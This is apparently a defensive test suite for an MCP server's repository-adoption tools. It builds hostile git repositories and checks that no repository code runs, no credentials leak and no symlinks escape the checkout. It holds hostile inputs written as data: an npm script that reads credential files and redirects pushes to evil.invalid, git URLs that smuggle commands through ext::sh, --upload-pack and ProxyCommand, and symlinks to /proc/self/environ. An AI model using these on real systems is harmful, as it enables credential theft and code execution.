// The attack corpus: repositories (built here, with real git and real files) that try to turn adopt_repo
// and verify_repo against the machine running them, sent to the built bin over stdio and streamable HTTP.
// After every attack: nothing outside the checkouts changed (a canary tree is hashed before and after),
// no repository code left a marker, no credential showed in any process's command line or environment, and
// the server still answers. The threat model is in MCP_USAGE.md ("Threat model").
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { lstat, mkdir, mkdtemp, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { connectOverStdio, startHttpServer, type ToolOutcome } from '@groundwork/mcp-testkit';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_BRANCH_NAME } from '../src/core/adopt/adoptDefaults.js';
import { nodeRepo, plainRepo } from '../src/testing/buildToolRepos.js';
import { conventionalRepo } from '../src/testing/conventionalRepo.js';
import { writeFixtureFiles } from '../src/testing/fixtureRepo.js';
import { createBareRemote, createGhStandIn, git, remoteRef } from '../src/testing/gitFixtures.js';
import { startGitHttpServer } from '../src/testing/gitHttpServer.js';

const bin = fileURLToPath(new URL('../dist/bin.js', import.meta.url));
const SERVER_SECRET = 'SERVER-SECRET-must-never-reach-a-child-0042';
const CANARY_TEXT = 'CANARY-outside-the-checkout-do-not-read\n';

interface Caller {
  call(name: string, args: Record<string, unknown>): Promise<ToolOutcome>;
  close(): Promise<void>;
}

let base: string;
/** The one directory the server may use: remotes, workspaces and verify targets live here. */
let allowed: string;
/** Outside the allowed directory: must be byte-for-byte and mode-for-mode the same afterwards. */
let canary: string;
/** Repository code writes here if it ever runs without being asked. */
let markers: string;
let canaryBefore: string;
let ghPath: string;
/** A repository under the allowed directory whose objects/info/alternates points outside. */
let borrowingBare: string;

beforeAll(async () => {
  base = await mkdtemp(path.join(tmpdir(), 'adopt-attack-'));
  allowed = path.join(base, 'allowed');
  canary = path.join(base, 'canary');
  markers = path.join(base, 'markers');
  await Promise.all([allowed, canary, markers, serverTmp()].map((dir) => mkdir(dir)));
  await writeFile(path.join(canary, 'secret.txt'), CANARY_TEXT, { mode: 0o600 });
  await mkdir(path.join(canary, 'nested'));
  await writeFile(path.join(canary, 'nested', 'notes.md'), '# Outside\n');
  execFileSync('mkfifo', [path.join(canary, 'pipe')]);
  // A repository outside the allowed directory, and a link to it from inside.
  const outside = await createBareRemote(plainRepo, 'main', canary);
  await symlink(outside.bare, path.join(allowed, 'link-to-outside.git'));
  // Inside the allowed directory, but reading the outside repository through a gitfile or alternates.
  await mkdir(path.join(allowed, 'gitfile-repo'));
  await writeFile(path.join(allowed, 'gitfile-repo', '.git'), `gitdir: ${outside.bare}\n`);
  const borrowing = await createBareRemote(plainRepo, 'main', allowed);
  await writeFile(path.join(borrowing.bare, 'objects', 'info', 'alternates'), `${outside.bare}/objects\n`);
  borrowingBare = borrowing.bare;
  canaryBefore = await hashTree(canary);
  ghPath = (await createGhStandIn()).path;
});

afterAll(async () => {
  expect(await hashTree(canary)).toBe(canaryBefore);
  expect(await readdir(markers)).toEqual([]);
});

/** Names, kinds, modes and contents of everything under `root`, without following links or opening FIFOs. */
async function hashTree(root: string): Promise<string> {
  const hash = createHash('sha256');
  const walk = async (dir: string): Promise<void> => {
    for (const name of (await readdir(dir)).sort()) {
      const file = path.join(dir, name);
      const stats = await lstat(file);
      hash.update(`${path.relative(root, file)} ${stats.mode} ${stats.size}\n`);
      if (stats.isSymbolicLink()) hash.update(readlinkSync(file));
      else if (stats.isFile()) hash.update(await readFile(file));
      else if (stats.isDirectory()) await walk(file);
    }
  };
  await walk(root);
  return hash.digest('hex');
}

/**
 * Every process's command line and environment that holds `secret`, and whether a git push or git's http
 * remote helper (fetch, ls-remote, push) was seen.
 */
function scanProcesses(secret: string): { leaks: string[]; sawPush: boolean } {
  const leaks: string[] = [];
  let sawPush = false;
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    const read = (what: string) => {
      try {
        return readFileSync(`/proc/${pid}/${what}`, 'latin1');
      } catch {
        return '';
      }
    };
    const cmdline = read('cmdline');
    if (/git-remote-https?\0|\0push\0/.test(cmdline)) sawPush = true;
    if (cmdline.includes(secret)) leaks.push(`cmdline of ${pid}: ${cmdline.replaceAll('\0', ' ')}`);
    if (read('environ').includes(secret)) leaks.push(`environ of ${pid}: ${cmdline.replaceAll('\0', ' ')}`);
  }
  return { leaks, sawPush };
}

/** The server's (and so its children's) temp directory: credential folders would show up here. */
const serverTmp = () => path.join(base, 'tmp');

const serverEnv = () => ({
  PATH: ghPath,
  TMPDIR: serverTmp(),
  GROUNDWORK_ADOPT_BACKOFF_MS: '1',
  DATABASE_URL: `postgres://app:${SERVER_SECRET}@db.internal/app`,
  AWS_SECRET_ACCESS_KEY: SERVER_SECRET,
});

async function connect(transport: 'stdio' | 'streamable-http'): Promise<Caller> {
  const args = ['--allowed-dir', allowed];
  if (transport === 'stdio') {
    const session = await connectOverStdio({ bin, clientName: 'adopt-attack', args, env: serverEnv() });
    return {
      call: (name, callArgs) => session.call(name, callArgs, { timeoutMs: 120_000 }),
      close: () => session.close(),
    };
  }
  const server = await startHttpServer(bin, 'streamable-http', args, { env: serverEnv() });
  const client = new Client({ name: 'adopt-attack', version: '1.0.0' });
  const clientTransport = new StreamableHTTPClientTransport(new URL(server.url));
  await client.connect(clientTransport);
  return {
    async call(name, callArgs) {
      const result = await client.callTool({ name, arguments: callArgs }, undefined, { timeout: 120_000 });
      const blocks = result.content as Array<{ type: string; text?: string }>;
      return {
        isError: result.isError === true,
        ...(result.structuredContent === undefined
          ? {}
          : { structuredContent: result.structuredContent as Record<string, unknown> }),
        text: blocks.map((block) => block.text ?? '').join('\n'),
      };
    },
    async close() {
      await clientTransport.terminateSession().catch(() => {});
      await client.close();
      await server.stop();
    },
  };
}

/** A repository whose default branch holds `files`, reachable by the server (under the allowed dir). */
async function remoteWith(files: Parameters<typeof createBareRemote>[0]) {
  return createBareRemote(files, 'main', allowed);
}

async function workspace(): Promise<string> {
  return mkdtemp(path.join(allowed, 'ws-'));
}

function touch(name: string): string {
  return `touch ${path.join(markers, name)}`;
}

/** npm runs every one of these around `npm run check:agent-docs` / `npm test` / `npm install`. */
const hostileNodeRepo = () => ({
  ...nodeRepo,
  'package.json': `${JSON.stringify(
    {
      name: 'hostile',
      version: '1.0.0',
      scripts: {
        test: `${touch('test')} && node --test`,
        pretest: touch('pretest'),
        'precheck:agent-docs': touch('precheck'),
        'postcheck:agent-docs': touch('postcheck'),
        preinstall: touch('preinstall'),
        prepare: touch('prepare'),
      },
    },
    null,
    2,
  )}\n`,
});

describe.each(['stdio', 'streamable-http'] as const)(
  'attack corpus over %s',
  { timeout: 180_000 },
  (transport) => {
    let server: Caller;
    let healthy: string;

    beforeAll(async () => {
      server = await connect(transport);
      healthy = await mkdtemp(path.join(allowed, 'healthy-'));
      await writeFixtureFiles(healthy, conventionalRepo());
    });
    afterAll(async () => {
      await server.close();
    });

    /** The server still answers, correctly, after the attack. */
    async function expectStillAnswering(): Promise<void> {
      const result = await server.call('verify_repo', { path: path.relative(allowed, healthy) });
      expect(result.structuredContent).toMatchObject({ passed: true });
    }

    it('runs no code from the repository: npm lifecycle scripts never run, dry run or not', async () => {
      const remote = await remoteWith(hostileNodeRepo());
      const dry = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        dry_run: true,
      });
      expect(dry.isError).toBe(false);
      const pushed = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
      });
      expect(pushed.isError).toBe(false);
      expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeDefined();
      expect(JSON.stringify(pushed.structuredContent)).toContain('nothing from the repository ran');
      expect(await readdir(markers)).toEqual([]);
      await expectStillAnswering();
    });

    it('runs the repository build only when asked, never in a dry run, and without the server secrets', async () => {
      const ran = await mkdtemp(path.join(base, 'opted-in-'));
      const remote = await remoteWith({
        ...nodeRepo,
        'package.json': `${JSON.stringify({ name: 'opt-in', version: '1.0.0', scripts: { 'precheck:agent-docs': `env > ${ran}/env.txt` } })}\n`,
      });
      const refused = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        dry_run: true,
        run_repository_code: true,
      });
      expect(refused.isError).toBe(true);
      expect(refused.text).toContain("Invalid argument 'run_repository_code'");
      expect(await readdir(ran)).toEqual([]);
      const result = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        run_repository_code: true,
      });
      expect(result.isError).toBe(false);
      const env = await readFile(path.join(ran, 'env.txt'), 'utf8');
      expect(env).toContain('PATH=');
      expect(env).not.toContain(SERVER_SECRET);
      await expectStillAnswering();
    });

    it('gives opted-in repository code neither the token nor a way to redirect the push', async () => {
      const token = `ghp_${transport === 'stdio' ? 'STDIO' : 'HTTPS'}optedINoptedINoptedIN0001`;
      const ran = await mkdtemp(path.join(base, 'steal-'));
      // Reads any credential file it can find, and points the push at another host.
      const steal = [
        `cat "\${TMPDIR:-/tmp}"/groundwork-credentials-*/password > ${ran}/stolen.txt 2>/dev/null`,
        'git config url.http://evil.invalid/.insteadOf http://127.0.0.1',
        `echo ran > ${ran}/ran.txt`,
      ].join('; ');
      const remote = await remoteWith({
        ...nodeRepo,
        'package.json': `${JSON.stringify({ name: 'steal', version: '1.0.0', scripts: { 'precheck:agent-docs': steal } })}\n`,
      });
      git(remote.bare, 'config', 'http.receivepack', 'true');
      const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0);
      try {
        const result = await server.call('adopt_repo', {
          repository_url: gitServer.urlFor(path.basename(remote.bare)),
          workspace: await workspace(),
          run_repository_code: true,
        });
        expect(await readFile(path.join(ran, 'ran.txt'), 'utf8')).toBe('ran\n');
        expect(await readFile(path.join(ran, 'stolen.txt'), 'utf8')).toBe('');
        expect(result.isError).toBe(false);
        expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeDefined();
      } finally {
        await gitServer.close();
      }
      await expectStillAnswering();
    });

    const pointers = { agents: ['copilot', 'cursor', 'gemini'] };
    it.each([
      ['AGENTS.md', { 'AGENTS.md': { symlink: '<canary>/secret.txt' } }, 'agent-docs', {}],
      ['CLAUDE.md', { 'CLAUDE.md': { symlink: '<canary>/nested/notes.md' } }, 'agent-docs', {}],
      [
        'scripts/check-agent-docs.sh',
        { 'scripts/check-agent-docs.sh': { symlink: '<canary>/secret.txt' } },
        'guard',
        {},
      ],
      // A linked folder: the file written through it is the one named.
      ['scripts/check-agent-docs.sh', { scripts: { symlink: '<canary>/nested' } }, 'guard', {}],
      ['AGENTS.md', { 'AGENTS.md': { symlink: '<canary>/pipe' } }, 'agent-docs', {}],
      // The other agents' pointer files, written when `agents` names them.
      ['GEMINI.md', { 'GEMINI.md': { symlink: '<canary>/secret.txt' } }, 'agent-docs', pointers],
      [
        '.github/copilot-instructions.md',
        { '.github': { symlink: '<canary>/nested' } },
        'agent-docs',
        pointers,
      ],
      ['.cursor/rules/agents.mdc', { '.cursor': { symlink: '<canary>' } }, 'agent-docs', pointers],
    ])('refuses to follow a committed symlink %s out of the checkout', async (file, links, step, options) => {
      const withCanary = Object.fromEntries(
        Object.entries(links).map(([name, link]) => [
          name,
          { symlink: link.symlink.replace('<canary>', canary) },
        ]),
      );
      const remote = await remoteWith({ ...plainRepo, ...withCanary });
      const result = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        ...options,
      });
      expect(result.isError).toBe(true);
      const [report] = result.text.includes('"repositories"')
        ? (JSON.parse(result.text.slice(result.text.indexOf('{'))).repositories as Array<{
            failure: { step: string; message: string };
          }>)
        : [];
      expect(report?.failure.step).toBe(step);
      expect(report?.failure.message).toContain(
        `'${file}' is a symbolic link to a file outside the repository`,
      );
      expect(result.text).not.toContain(canary);
      expect(result.text).not.toContain('CANARY');
      expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeUndefined();
      await expectStillAnswering();
    });

    it('treats the checkout’s own .git as outside: AGENTS.md → .git/config is neither read nor written', async () => {
      const remote = await remoteWith({ ...plainRepo, 'AGENTS.md': { symlink: '.git/config' } });
      const ws = await workspace();
      const result = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: ws,
        dry_run: true,
      });
      expect(result.isError).toBe(true);
      expect(result.text).toContain("'AGENTS.md' leads into the repository's .git folder");
      const [checkout] = await readdir(ws);
      const config = await readFile(path.join(ws, checkout ?? '', '.git', 'config'), 'utf8');
      expect(config).toContain('[remote "origin"]');
      expect(config).not.toContain('## ');

      const repo = await mkdtemp(path.join(allowed, 'git-link-verify-'));
      await writeFixtureFiles(repo, { ...conventionalRepo(), 'CLAUDE.md': { symlink: '.git/config' } });
      execFileSync('git', ['init', '--quiet'], { cwd: repo });
      execFileSync('git', ['config', 'remote.origin.url', `https://${SERVER_SECRET}@example.invalid/r`], {
        cwd: repo,
      });
      const verified = await server.call('verify_repo', { path: path.relative(allowed, repo) });
      expect(verified.structuredContent?.findings).toContainEqual(
        expect.objectContaining({ rule: 'files/unsafe', file: 'CLAUDE.md' }),
      );
      expect(verified.text).not.toContain(SERVER_SECRET);
      await expectStillAnswering();
    });

    it('adopts CLAUDE.md → AGENTS.md by completing AGENTS.md, keeping the link', async () => {
      const remote = await remoteWith({
        ...plainRepo,
        'AGENTS.md': '# Linked\n\n## Overview\nHand-written.\n',
        'CLAUDE.md': { symlink: 'AGENTS.md' },
      });
      const ws = await workspace();
      const result = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: ws,
        dry_run: true,
      });
      expect(result.isError).toBe(false);
      const [report] = (result.structuredContent?.repositories ?? []) as Array<{ checkout: string }>;
      const checkout = path.join(allowed, report?.checkout ?? '');
      expect((await lstat(path.join(checkout, 'CLAUDE.md'))).isSymbolicLink()).toBe(true);
      const agents = await readFile(path.join(checkout, 'AGENTS.md'), 'utf8');
      expect(agents.startsWith('# Linked\n\n## Overview\nHand-written.\n')).toBe(true);
      expect(agents).toContain('## Build and test');
      await expectStillAnswering();
    });

    it('verify_repo reports symlinks out, FIFOs, devices and oversized files as findings, without hanging or echoing them', async () => {
      const repo = await mkdtemp(path.join(allowed, 'hostile-verify-'));
      await writeFixtureFiles(repo, {
        ...conventionalRepo(),
        'CLAUDE.md': { symlink: path.join(canary, 'secret.txt') },
        'AGENTS.md': { symlink: '/dev/zero' },
        '.mcp.json': { symlink: '/dev/stdin' },
        '.claude/skills/outside/SKILL.md': { symlink: path.join(canary, 'pipe') },
        '.claude/settings.json': null,
        '.groundwork/adopt.json': { symlink: '/proc/self/environ' },
      });
      execFileSync('mkfifo', [path.join(repo, '.claude/settings.json')]);
      const result = await server.call('verify_repo', { path: path.relative(allowed, repo) });
      const findings = result.structuredContent?.findings as Array<{ rule: string; file: string }>;
      const refused = findings
        .filter((finding) => finding.rule.startsWith('files/'))
        .map((finding) => finding.file);
      expect(refused.sort()).toEqual(
        [
          '.claude/settings.json',
          '.claude/skills/outside/SKILL.md',
          '.groundwork/adopt.json',
          '.mcp.json',
          'AGENTS.md',
          'CLAUDE.md',
        ].sort(),
      );
      expect(result.text).not.toContain('CANARY');
      expect(result.text).not.toContain(SERVER_SECRET);

      const big = await mkdtemp(path.join(allowed, 'big-verify-'));
      await writeFixtureFiles(big, {
        ...conventionalRepo(),
        'AGENTS.md': `# Big\n\n${'word '.repeat(700_000)}\n`,
      });
      const large = await server.call('verify_repo', { path: path.relative(allowed, big) });
      expect(large.structuredContent?.findings).toContainEqual(
        expect.objectContaining({ rule: 'files/too-large', file: 'AGENTS.md' }),
      );
      await expectStillAnswering();
    });

    it.each([
      () => `ext::sh -c ${touch('ext').replaceAll(' ', '% ')}`,
      () => `--upload-pack=${touch('upload-pack')}`,
      () => `-oProxyCommand=${touch('proxy')}:x`,
      () => `ssh://%2DoProxyCommand=${encodeURIComponent(touch('proxy-encoded'))}@localhost/r`,
      () => `file://${readlinkSync(path.join(allowed, 'link-to-outside.git'))}`,
      () => path.join(allowed, 'link-to-outside.git'),
      () => path.join(allowed, 'gitfile-repo'),
      () => `file://${borrowingBare}`,
    ])('refuses a remote that is a local path out of bounds or a command in disguise (%#)', async (url) => {
      const result = await server.call('adopt_repo', {
        repository_url: url(),
        workspace: await workspace(),
        dry_run: true,
      });
      expect(result.isError).toBe(true);
      expect(result.text).toMatch(
        /Invalid argument 'repository_url'|outside the directories this server may read/,
      );
      expect(await readdir(markers)).toEqual([]);
      await expectStillAnswering();
    });

    it('never writes to the default branch or to a remote branch it did not create', async () => {
      const remote = await remoteWith(plainRepo);
      const main = remoteRef(remote, 'refs/heads/main');
      const spelled = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        branch: 'refs/heads/main',
      });
      expect(spelled.isError).toBe(true);
      expect(spelled.text).toContain("Branch 'main' is the default branch");
      git(
        remote.bare,
        'update-ref',
        'refs/heads/theirs',
        git(remote.bare, 'commit-tree', 'main^{tree}', '-p', 'main', '-m', 'theirs'),
      );
      const theirs = remoteRef(remote, 'refs/heads/theirs');
      const foreign = await server.call('adopt_repo', {
        repository_url: remote.url,
        workspace: await workspace(),
        branch: 'theirs',
      });
      expect(foreign.isError).toBe(true);
      expect(foreign.text).toContain('was not created by adopt_repo');
      expect(remoteRef(remote, 'refs/heads/main')).toBe(main);
      expect(remoteRef(remote, 'refs/heads/theirs')).toBe(theirs);
      await expectStillAnswering();
    });

    it('keeps the token out of every command line and child environment during a real push', async () => {
      const token = `ghp_${transport === 'stdio' ? 'STDIO' : 'HTTPS'}fakeTOKENfakeTOKENfakeTOKEN01`;
      const remote = await remoteWith(plainRepo);
      git(remote.bare, 'config', 'http.receivepack', 'true');
      const scans: Array<ReturnType<typeof scanProcesses>> = [];
      const fetchScans: Array<ReturnType<typeof scanProcesses>> = [];
      const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0, {
        // While the pack is on its way, git push and its remote helper are running: look at every process.
        beforePush: async (phase) => {
          if (phase === 'pack') scans.push(scanProcesses(token));
        },
        // Likewise while ls-remote and fetch talk to the remote.
        beforeFetch: async () => {
          fetchScans.push(scanProcesses(token));
        },
      });
      try {
        const result = await server.call('adopt_repo', {
          repository_url: gitServer.urlFor(path.basename(remote.bare)),
          workspace: await workspace(),
        });
        expect(result.isError).toBe(false);
        expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeDefined();
        expect(scans.length).toBeGreaterThan(0);
        expect(scans.some((scan) => scan.sawPush)).toBe(true);
        expect(scans.flatMap((scan) => scan.leaks)).toEqual([]);
        expect(fetchScans.length).toBeGreaterThanOrEqual(2);
        // git's remote helper (which holds the credentials) was running during those scans.
        expect(fetchScans.some((scan) => scan.sawPush)).toBe(true);
        expect(fetchScans.flatMap((scan) => scan.leaks)).toEqual([]);
        expect(result.text).not.toContain(token);
      } finally {
        await gitServer.close();
      }
      await expectStillAnswering();
    });
  },
);

describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () => {
  it('leaves no git process running and pushes nothing', async () => {
    const token = 'ghp_KILLfakeKILLfakeKILLfakeKILLfake0001';
    const remote = await remoteWith(plainRepo);
    git(remote.bare, 'config', 'http.receivepack', 'true');
    const ws = await workspace();
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [bin, '--allowed-dir', allowed],
      env: { ...(process.env as Record<string, string>), ...serverEnv() },
      stderr: 'ignore',
    });
    const client = new Client({ name: 'adopt-kill', version: '1.0.0' });
    await client.connect(transport);
    /** Processes working in the workspace: git and its helpers, started by the server. */
    const inWorkspace = () =>
      readdirSync('/proc')
        .filter((pid) => /^\d+$/.test(pid))
        .filter((pid) => {
          try {
            return readlinkSync(`/proc/${pid}/cwd`).startsWith(ws);
          } catch {
            return false;
          }
        });
    /** The token's private folders in the server's temp directory (one exists while the push runs). */
    const credentialFolders = () =>
      readdirSync(serverTmp()).filter((name) => name.startsWith('groundwork-credentials-'));
    let reaped: (outcome: { atKill: string[]; after: string[] }) => void = () => {};
    const outcome = new Promise<{ atKill: string[]; after: string[] }>((resolve) => {
      reaped = resolve;
    });
    const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0, {
      // The pack is held back while the server is killed; the push may only continue once it is reaped.
      beforePush: async (phase) => {
        if (phase !== 'pack') return;
        const atKill = [...inWorkspace(), ...credentialFolders()];
        process.kill(transport.pid as number, 'SIGKILL');
        // A generous bound for the watchdog to notice and kill the group, not a timing assumption.
        const deadline = Date.now() + 30_000;
        while ((inWorkspace().length > 0 || credentialFolders().length > 0) && Date.now() < deadline)
          await new Promise((resolve) => setTimeout(resolve, 50));
        reaped({ atKill, after: [...inWorkspace(), ...credentialFolders()] });
      },
    });
    try {
      const call = client.callTool(
        {
          name: 'adopt_repo',
          arguments: { repository_url: gitServer.urlFor(path.basename(remote.bare)), workspace: ws },
        },
        undefined,
        { timeout: 60_000 },
      );
      await expect(call).rejects.toThrow();
      const { atKill, after } = await outcome;
      expect(atKill.some((name) => name.startsWith('groundwork-credentials-'))).toBe(true);
      expect(atKill.length).toBeGreaterThan(1);
      expect(after).toEqual([]);
      expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeUndefined();
    } finally {
      await gitServer.close();
    }
  });
});
